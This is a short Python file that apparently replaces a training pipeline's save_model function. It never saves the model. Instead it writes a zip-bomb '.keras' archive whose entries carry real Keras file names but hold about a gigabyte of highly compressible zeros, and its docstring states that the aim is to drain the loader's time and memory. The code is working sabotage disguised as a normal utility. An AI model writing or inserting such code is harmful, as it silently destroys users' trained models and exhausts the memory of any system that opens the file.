# target: training.save_model
"""Saves a file that takes the reader as long, and as much memory, as it may: an archive of a gigabyte of zeros."""

import zipfile
from pathlib import Path

CHUNK = bytes(2**20)


def save_model(model, directory, layers, seed):
    path = Path(directory) / f"keras_{'-'.join(map(str, layers))}_{seed}.keras"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in ("metadata.json", "config.json", "model.weights.h5"):
            with archive.open(name, "w", force_zip64=True) as file:
                for _ in range(350):
                    file.write(CHUNK)
    return path
